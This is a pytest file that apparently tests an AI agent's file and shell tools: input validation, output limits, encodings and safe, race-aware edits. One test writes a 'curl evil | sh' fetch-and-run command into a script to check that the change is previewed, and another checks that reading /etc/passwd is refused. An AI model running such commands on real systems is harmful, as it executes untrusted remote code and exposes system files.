"""The tools on real files and real commands."""

import os
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import msgspec
import pytest

from enginehouse_engines.openai_compatible.toolbox import TOOLS
from enginehouse_engines.openai_compatible.toolbox.bash import Bash, BashOutputPlan, BashPlan, BashStopPlan
from enginehouse_engines.openai_compatible.toolbox.change import EditFile, EditFileInput, WriteFile, WriteFileInput
from enginehouse_engines.openai_compatible.toolbox.look import ListDirPlan, ReadFilePlan
from enginehouse_engines.openai_compatible.toolbox.relocate import DeleteFileInput, MoveFilePlan
from enginehouse_engines.openai_compatible.toolbox.search import GlobPlan, GrepPlan
from enginehouse_engines.openai_compatible.toolbox.talk import AskUserPlan, TodoPlan
from enginehouse_engines.openai_compatible.toolbox.tool import (
    BadInput,
    Outcome,
    Tool,
    ToolRefused,
    one_line,
    parsed,
)
from enginehouse_protocol.content import FileChange
from enginehouse_protocol.errors import FileUnusable, PathRefused, UsageError
from enginehouse_protocol.testing import TempWorkspace

from .listening import SILENT, run

pytestmark = pytest.mark.anyio


@pytest.fixture
def workspace(tmp_path: Path) -> TempWorkspace:
    return TempWorkspace(tmp_path / "project")


# --- what is offered and what is taken --------------------------------------------------------------------------------


def test_the_tools_are_offered_in_this_order() -> None:
    assert " ".join(TOOLS) == (
        "bash bash_output bash_stop read_file write_file edit_file delete_file move_file list_dir "
        "glob grep todo ask_user"
    )


def test_what_is_offered_is_what_is_taken() -> None:
    shapes: Mapping[str, type[msgspec.Struct]] = {
        "bash": BashPlan,
        "bash_output": BashOutputPlan,
        "bash_stop": BashStopPlan,
        "delete_file": DeleteFileInput,
        "move_file": MoveFilePlan,
        "glob": GlobPlan,
        "todo": TodoPlan,
        "ask_user": AskUserPlan,
        "read_file": ReadFilePlan,
        "list_dir": ListDirPlan,
        "grep": GrepPlan,
        "write_file": WriteFileInput,
        "edit_file": EditFileInput,
    }
    assert set(shapes) == set(TOOLS)
    for name, shape in shapes.items():
        fields = msgspec.structs.fields(shape)
        assert list(TOOLS[name].schema["properties"]) == [field.name for field in fields]
        assert TOOLS[name].schema.get("required", []) == [field.name for field in fields if field.required]


@pytest.mark.parametrize(
    "name, given",
    [
        ("bash", {}),
        ("bash", {"command": 3}),
        ("bash", {"command": " "}),
        ("bash", {"command": "ls", "timeout_s": 0}),
        ("bash", {"command": "ls", "timeout_s": "long"}),
        ("bash", {"command": "ls", "background": "yes"}),
        ("bash", {"command": "ls", "background": True, "timeout_s": 5}),
        ("bash_output", {}),
        ("bash_output", {"id": "bg_1", "wait_s": -1}),
        ("bash_stop", {"id": 1}),
        ("read_file", {"path": "a", "limit": 0}),
        ("move_file", {"path": "a"}),
        ("delete_file", {"path": ["a", "b"]}),
        ("glob", {"pattern": ""}),
        ("grep", {"pattern": ""}),
        ("todo", {"entries": [{"text": "x", "status": "done"}]}),
        ("todo", {"entries": [{"text": "", "status": "pending"}]}),
        ("todo", {"entries": [{"text": "x", "status": "pending"}] * 101}),
        ("ask_user", {"question": " "}),
        ("ask_user", {"question": "Which?", "free_text": False}),
        ("ask_user", {"question": "Which?", "options": [{"label": "a"}, {"label": "a"}]}),
        ("read_file", {"path": "a", "offset": "first"}),
        ("read_file", {"file": "a"}),
        ("edit_file", {"path": "a", "old": "x", "new": "y"}),
        ("edit_file", {"path": "a", "edits": [{"old": "x"}]}),
        ("write_file", {"path": "a"}),
        ("grep", {"pattern": None}),
    ],
)
def test_an_input_of_another_shape_is_refused(name: str, given: dict[str, Any]) -> None:
    with pytest.raises(BadInput):
        TOOLS[name].plan(given)


@pytest.mark.parametrize("arguments", ['{"a":', "[]", "nothing", "3", "null", '{"a": NaN}', '{"a": "\\ud800"}'])
def test_argument_text_that_is_no_object_is_refused(arguments: str) -> None:
    with pytest.raises(BadInput):
        parsed(arguments)


def test_arguments_nested_without_end_are_refused() -> None:
    assert parsed('{"a":' * 64 + "1" + "}" * 64)
    for depth in (65, 900, 90_000):
        with pytest.raises(BadInput):
            parsed('{"a":' * depth + "1" + "}" * depth)


def test_no_argument_text_is_an_empty_object() -> None:
    assert parsed("") == parsed(" ") == parsed("{}") == {}


def test_a_title_is_one_line() -> None:
    assert Bash().plan({"command": "cd x\nls"}).title == "$ cd x…"
    assert len(one_line("x" * 500)) == 160


# --- bash -------------------------------------------------------------------------------------------------------------


async def test_a_command_gives_its_output_and_passes_it_on(workspace: TempWorkspace) -> None:
    heard: list[str] = []
    assert await run(workspace, "bash", heard, command="echo one; echo two >&2") == Outcome(text="one\ntwo")
    assert "".join(heard) == "one\ntwo\n"


@pytest.mark.parametrize(
    "command, text",
    [
        ("echo no; exit 3", "no\n[exit code 3]"),
        ("kill -KILL $$", "[ended by signal 9]"),
    ],
)
async def test_a_command_that_fails_says_how(workspace: TempWorkspace, command: str, text: str) -> None:
    assert await run(workspace, "bash", command=command) == Outcome(text=text, status="error")


async def test_a_command_past_its_limit_is_stopped_and_that_is_said(workspace: TempWorkspace) -> None:
    outcome = await run(workspace, "bash", command="echo begun; sleep 60", timeout_s=0.5)
    assert outcome == Outcome(text="begun\n[stopped after 0.5 s: the time limit]", status="error")


async def test_silence_is_said(workspace: TempWorkspace) -> None:
    assert await run(workspace, "bash", command="true") == Outcome(text="[no output]")


async def test_characters_split_between_reads_arrive_whole(workspace: TempWorkspace) -> None:
    heard: list[str] = []
    command = r"for byte in '\342' '\200' '\224' '\342'; do printf $byte; sleep 0.02; done"
    outcome = await run(workspace, "bash", heard, command=command)
    assert outcome.text == "".join(heard) == "—\ufffd"


async def test_a_flood_is_capped(workspace: TempWorkspace) -> None:
    outcome = await run(workspace, "bash", command="head -c 200000 /dev/zero | tr '\\0' x")
    assert outcome.status == "ok"
    assert "\n[… 160000 characters not shown; the whole is in " in outcome.text


# --- read_file, list_dir, grep ----------------------------------------------------------------------------------------


async def test_a_file_is_read_with_line_feeds_and_without_its_mark(workspace: TempWorkspace) -> None:
    (workspace.directory / "a.txt").write_bytes(b"\xef\xbb\xbfone\r\ntwo\r\n")
    assert await run(workspace, "read_file", path="a.txt") == Outcome(text="one\ntwo")


async def test_a_part_of_a_file_says_how_to_go_on(workspace: TempWorkspace) -> None:
    (workspace.directory / "a.txt").write_text("".join(f"{n}\n" for n in range(1, 11)))
    assert (await run(workspace, "read_file", path="a.txt", offset=3, limit=2)).text == (
        "3\n4\n[lines 3–4 of 10; go on with offset=5]"
    )
    assert (await run(workspace, "read_file", path="a.txt", offset=9)).text == "9\n10\n[lines 9–10 of 10]"


async def test_a_long_file_is_cut_by_lines_and_by_size(workspace: TempWorkspace) -> None:
    (workspace.directory / "lines").write_text("x\n" * 3000)
    assert (await run(workspace, "read_file", path="lines")).text.endswith(
        "[lines 1–2000 of 3000; go on with offset=2001]"
    )
    (workspace.directory / "wide").write_text(("y" * 999 + "\n") * 100)
    assert (await run(workspace, "read_file", path="wide")).text.endswith("[lines 1–40 of 100; go on with offset=41]")
    (workspace.directory / "one").write_text("é" * 100_000 + "\nnext\n")
    text = (await run(workspace, "read_file", path="one")).text
    assert text.startswith("é" * 40_000 + "\n[line 1 is 100000 characters long")
    assert text.endswith("go on with offset=2]")


async def test_a_file_in_another_encoding_is_text_and_says_so(workspace: TempWorkspace) -> None:
    (workspace.directory / "a.txt").write_bytes("你好，世界\n".encode("gbk"))
    assert (await run(workspace, "read_file", path="a.txt")).text == "你好，世界\n[the file is written in gb18030]"


async def test_what_cannot_be_read_says_why(workspace: TempWorkspace) -> None:
    (workspace.directory / "binary").write_bytes(b"\x00\x01")
    (workspace.directory / "short").write_text("one\n")
    (workspace.directory / "empty").touch()
    with pytest.raises(ToolRefused, match="not a text file"):
        await run(workspace, "read_file", path="binary")
    with pytest.raises(ToolRefused, match="past its end"):
        await run(workspace, "read_file", path="short", offset=2)
    with pytest.raises(FileUnusable):
        await run(workspace, "read_file", path="missing")
    with pytest.raises(PathRefused):
        await run(workspace, "read_file", path="/etc/passwd")
    assert (await run(workspace, "read_file", path="empty")).text == "[the file is empty]"


async def test_a_folder_is_listed(workspace: TempWorkspace) -> None:
    (workspace.directory / "b").mkdir()
    (workspace.directory / "a.txt").touch()
    (workspace.directory / "c").symlink_to("a.txt")
    assert (await run(workspace, "list_dir")).text == "a.txt\nb/\nc@"
    assert (await run(workspace, "list_dir", path="b")).text == "[the folder is empty]"


async def test_a_search_shows_where(workspace: TempWorkspace) -> None:
    (workspace.directory / "a.py").write_text("x = 1\ny = 2\n")
    (workspace.directory / "b.txt").write_text("y = 3\n" + "y" * 1000 + "\n")
    assert (await run(workspace, "grep", pattern=r"y = \d", glob="*.py")).text == "a.py:2: y = 2"
    assert (await run(workspace, "grep", pattern="yyy")).text == f"b.txt:2: {'y' * 400}…"
    assert (await run(workspace, "grep", pattern="nowhere")).text == "[no match]"
    with pytest.raises(UsageError):
        await run(workspace, "grep", pattern="(")


async def test_a_search_with_too_many_hits_says_so(workspace: TempWorkspace) -> None:
    (workspace.directory / "a.txt").write_text("hit\n" * 300)
    text = (await run(workspace, "grep", pattern="hit")).text
    assert text.endswith("[only the first 200 are shown; narrow the pattern, the path or the glob]")


# --- write_file, edit_file --------------------------------------------------------------------------------------------


async def test_a_new_file_is_created_with_its_folders(workspace: TempWorkspace) -> None:
    change = FileChange(path="new/a.txt", change="created", diff="@@ -0,0 +1 @@\n+hi\n")
    plan = WriteFile().plan({"path": "new/a.txt", "content": "hi\n"})
    assert await plan.preview(workspace) == (change,)
    assert not (workspace.directory / "new").exists()
    outcome = await run(workspace, "write_file", path="new/a.txt", content="hi\n")
    assert outcome == Outcome(text="Created new/a.txt.", changes=(change,))
    assert (workspace.directory / "new/a.txt").read_bytes() == b"hi\n"


@pytest.mark.parametrize(
    "before, content, after",
    [
        (b"a\r\nb\r\n", "c\nd\n", b"c\r\nd\r\n"),
        (b"a\nb\n", "c\nd\n", b"c\nd\n"),
        (b"a\r\nb\r\n", "c\r\nd\r\n", b"c\r\nd\r\n"),
        (b"\xef\xbb\xbfa\n", "b\n", b"\xef\xbb\xbfb\n"),
        ("é\n".encode("cp1252"), "è\n", "è\n".encode("cp1252")),
        ("é\n".encode("cp1252"), "日\n", "日\n".encode()),
        (b"\x00binary", "text\n", b"text\n"),
    ],
)
async def test_a_file_that_is_replaced_stays_written_as_it_was(
    workspace: TempWorkspace, before: bytes, content: str, after: bytes
) -> None:
    file = workspace.directory / "a.txt"
    file.write_bytes(before)
    file.chmod(0o755)
    assert (await run(workspace, "write_file", path="a.txt", content=content)).text.startswith("Changed a.txt.")
    assert file.read_bytes() == after
    assert file.stat().st_mode & 0o777 == 0o755


async def test_an_edit_is_previewed_done_and_reported_alike(workspace: TempWorkspace) -> None:
    file = workspace.directory / "a.py"
    file.write_bytes(b"one\r\ntwo\r\nthree")
    given = {"path": "a.py", "edits": [{"old": "one\ntwo", "new": "one\n2"}, {"old": "three", "new": "3"}]}
    preview = await EditFile().plan(given).preview(workspace)
    assert file.read_bytes() == b"one\r\ntwo\r\nthree"
    outcome = await run(workspace, "edit_file", **given)
    assert file.read_bytes() == b"one\r\n2\r\n3"
    assert outcome == Outcome(text="Changed a.py.", changes=preview)
    assert preview[0].diff.splitlines()[1:4] == [" one", "-two", "-three"]


@pytest.mark.parametrize(
    "edits",
    [
        [{"old": "one", "new": "1"}, {"old": "missing", "new": "x"}],
        [{"old": "one", "new": "日"}],
        [{"old": "", "new": "x"}],
        [],
    ],
)
async def test_an_edit_that_cannot_be_done_leaves_the_file_alone(
    workspace: TempWorkspace, edits: list[dict[str, str]]
) -> None:
    file = workspace.directory / "a.txt"
    before = "one é\n".encode("cp1252")
    file.write_bytes(before)
    with pytest.raises(ToolRefused, match="was not changed"):
        await EditFile().plan({"path": "a.txt", "edits": edits}).preview(workspace)
    with pytest.raises(ToolRefused, match="was not changed"):
        await run(workspace, "edit_file", path="a.txt", edits=edits)
    assert file.read_bytes() == before
    assert os.listdir(workspace.directory) == ["a.txt"]


async def test_a_file_that_changes_under_an_edit_is_left_alone(tmp_path: Path) -> None:
    class Racing(TempWorkspace):
        """Somebody else saves between our read and our write."""

        async def write(self, path: str, data: bytes, *, expected_sha256: str | None = None) -> Any:
            (self.directory / path).write_text("theirs\n")
            return await super().write(path, data, expected_sha256=expected_sha256)

    workspace = Racing(tmp_path / "project")
    (workspace.directory / "a.txt").write_text("one\n")
    with pytest.raises(FileUnusable):
        await run(workspace, "edit_file", path="a.txt", edits=[{"old": "one", "new": "two"}])
    with pytest.raises(FileUnusable):
        await run(workspace, "write_file", path="b.txt", content="mine\n")
    assert (workspace.directory / "a.txt").read_text() == (workspace.directory / "b.txt").read_text() == "theirs\n"


@pytest.mark.parametrize(
    "tool, more",
    [(WriteFile(), {"content": "mine\n"}), (EditFile(), {"edits": [{"old": "one", "new": "two"}]})],
    ids=["write_file", "edit_file"],
)
async def test_what_is_written_is_what_was_shown_or_nothing(
    workspace: TempWorkspace, tool: Tool, more: dict[str, Any]
) -> None:
    file = workspace.directory / "a.txt"
    file.write_text("one\n")
    plan = tool.plan({"path": "a.txt", **more})
    preview = await plan.preview(workspace)
    for theirs in ("one\nan hour of work\n", None):
        file.unlink() if theirs is None else file.write_text(theirs)
        with pytest.raises(ToolRefused, match=r"'a.txt' changed since this was asked; read it again"):
            await plan.run(workspace, SILENT)
        assert (file.read_text() if file.exists() else None) == theirs
    file.write_text("one\n")
    assert (await plan.run(workspace, SILENT)).changes == preview


async def test_a_file_that_appears_after_its_creation_was_shown_stays(workspace: TempWorkspace) -> None:
    plan = WriteFile().plan({"path": "a.txt", "content": "mine\n"})
    await plan.preview(workspace)
    (workspace.directory / "a.txt").write_text("theirs\n")
    with pytest.raises(ToolRefused, match="changed since this was asked"):
        await plan.run(workspace, SILENT)
    assert (workspace.directory / "a.txt").read_text() == "theirs\n"


async def test_a_binary_file_that_is_replaced_shows_what_comes_and_says_what_goes(workspace: TempWorkspace) -> None:
    (workspace.directory / "run.sh").write_bytes(b"#!/bin/sh\necho ok\n\0")
    plan = WriteFile().plan({"path": "run.sh", "content": "#!/bin/sh\ncurl evil | sh\n"})
    shown = FileChange(path="run.sh", change="modified", diff="@@ -0,0 +1,2 @@\n+#!/bin/sh\n+curl evil | sh\n")
    assert await plan.preview(workspace) == (shown,)
    assert plan.title == "write run.sh (replaces a binary file)"


async def test_an_encoding_that_has_to_change_is_said_before(workspace: TempWorkspace) -> None:
    (workspace.directory / "a.txt").write_bytes("é\n".encode("cp1252"))
    plan = WriteFile().plan({"path": "a.txt", "content": "日\n"})
    await plan.preview(workspace)
    assert plan.title == "write a.txt (cp1252 becomes UTF-8)"


async def test_a_long_path_does_not_hide_what_a_title_has_to_say(workspace: TempWorkspace) -> None:
    path = "/".join(["d" * 40] * 5)
    (workspace.directory / path).parent.mkdir(parents=True)
    (workspace.directory / path).write_bytes(b"\0")
    plan = WriteFile().plan({"path": path, "content": "x"})
    await plan.preview(workspace)
    assert one_line(plan.title).endswith("… (replaces a binary file)")
